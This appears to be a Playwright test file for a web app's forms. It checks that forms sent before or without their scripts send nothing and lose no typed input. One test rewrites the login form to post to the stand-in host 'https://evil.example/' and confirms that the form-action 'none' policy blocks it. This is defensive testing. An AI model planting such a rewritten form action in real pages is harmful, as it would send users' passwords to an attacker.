/** Forms that are sent before their script is there, or without it: nothing leaves the browser, nothing typed is lost. */
import type { Page } from 'playwright/test';
import { ownPages } from '../tools/own-pages.ts';
import { changePage } from './change-page.ts';
import { expect, test } from './fixtures.ts';
import { hold } from './hold.ts';
import { IndexPage } from './pages/index-page.ts';
import { LoginPage } from './pages/login-page.ts';
import { ada } from './people.ts';

/** What was asked for from now on, but for scripts and the marker of `sendEveryForm`. */
function recordRequests(page: Page): string[] {
  const requests: string[] = [];
  page.on('request', (request) => {
    if (!/\.js$|\/icon\.svg\?sent$/.test(request.url())) requests.push(`${request.method()} ${request.url()}`);
  });
  return requests;
}

test('Ada presses Enter before the script of login has come: it stays typed, and she signs in once it is there', async ({
  page,
  pool,
}) => {
  await pool.addUser(ada);
  const release = await hold(page, /\/login-\w+\.js$/);
  await page.goto('/login.html', { waitUntil: 'commit' });
  const login = new LoginPage(page);
  await login.field('Email address').fill(ada.email);
  await login.field('Password').fill(ada.password);
  const requests = recordRequests(page);
  await login.field('Password').press('Enter');
  await expect(login.field('Password')).toHaveValue(ada.password);
  expect(requests).toEqual([]);
  release();
  await page.waitForLoadState('domcontentloaded');
  await expect(login.field('Email address')).toHaveValue(ada.email);
  await login.button('Sign in').click();
  await new IndexPage(page).shown('Ada');
});

test.describe('with every script blocked', () => {
  test.use({ expectedErrors: /ERR_BLOCKED_BY_CLIENT/ });

  for (const name of ownPages) {
    test(`no form of ${name} sends anything, however it is sent`, async ({ page }) => {
      await page.route(/\.js$/, (route) => route.abort('blockedbyclient'));
      await page.goto(`/${name}`);
      const requests = recordRequests(page);
      await sendEveryForm(page);
      await expect(page).toHaveURL(new RegExp(`/${name}$`));
      expect(requests).toEqual([]);
    });
  }
});

test.describe('a form that nobody built', () => {
  test.use({ expectedErrors: /form-action|ERR_BLOCKED_BY_CLIENT/ });

  test('is stopped by the policy, whatever it says itself', async ({ page, site, problems }) => {
    const address = await changePage(site.folder, 'login.html', (html) =>
      html.replace('method="dialog"', 'method="post" action="https://evil.example/"'),
    );
    await page.route(/\.js$/, (route) => route.abort('blockedbyclient'));
    await page.goto(address);
    const requests = recordRequests(page);
    await sendEveryForm(page);
    await expect.poll(() => problems.join('\n')).toContain("form-action 'none'");
    expect(requests).toEqual([]);
  });
});

/** By a button, by a script of the page, by a password manager: with something in every field. */
async function sendEveryForm(page: Page): Promise<void> {
  await page.evaluate(async () => {
    for (const form of document.forms) {
      for (const field of form.querySelectorAll('input')) field.defaultValue = 'typed';
      form.requestSubmit();
      form.querySelector<HTMLButtonElement>('[type="submit"]')?.click();
      // A field called `submit` would hide the method.
      HTMLFormElement.prototype.submit.call(form);
    }
    // Whatever was sent is under way before this has come.
    const marker = document.createElement('img');
    marker.src = '/icon.svg?sent';
    await marker.decode();
  });
}
